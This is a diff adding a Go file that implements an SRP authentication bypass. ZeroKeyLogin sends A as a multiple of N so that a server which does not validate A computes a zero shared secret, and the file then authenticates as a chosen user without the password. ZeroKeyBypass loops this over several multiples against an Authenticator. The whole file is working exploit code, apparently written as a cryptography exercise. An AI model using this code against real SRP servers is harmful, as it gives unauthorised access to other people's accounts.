@@ -0,0 +1,49 @@
+package srp
+
+import (
+	"crypto/subtle"
+	"errors"
+	"math/big"
+)
+
+// Logs in to an SRP server as a given user without the password by sending A = multiple * N. A server which does not
+// reject such an A computes S = (A * v^u)^b mod N = 0, so the session key is H(0) regardless of the password. Returns
+// the session key once the server has accepted the proof.
+func ZeroKeyLogin(auth Authenticator, params *Params, username string, multiple int64) ([]byte, error) {
+	public := new(big.Int).Mul(big.NewInt(multiple), params.N)
+	challenge, err := auth.Hello(username, public)
+	if err != nil {
+		return nil, err
+	}
+
+	key := sessionKey(big.NewInt(0))
+	proof := clientProof(key, challenge.Salt)
+	serverProof, err := auth.Verify(challenge.Session, proof)
+	if err != nil {
+		return nil, err
+	}
+
+	if subtle.ConstantTimeCompare(params.serverProof(key, public, proof), serverProof) != 1 {
+		return nil, errors.New("ZeroKeyLogin: server did not derive the predicted session key")
+	}
+	return key, nil
+}
+
+// A BypassResult is the outcome of one ZeroKeyLogin attempt.
+type BypassResult struct {
+	// Multiple is the multiple of N which was sent as A.
+	Multiple int64
+	// Err is nil iff the server accepted the login.
+	Err error
+}
+
+// Attempts ZeroKeyLogin with A = m * N for each of the given multiples m and returns the outcome of each attempt, in
+// order.
+func ZeroKeyBypass(auth Authenticator, params *Params, username string, multiples []int64) []BypassResult {
+	results := make([]BypassResult, len(multiples))
+	for i, m := range multiples {
+		_, err := ZeroKeyLogin(auth, params, username, m)
+		results[i] = BypassResult{m, err}
+	}
+	return results
+}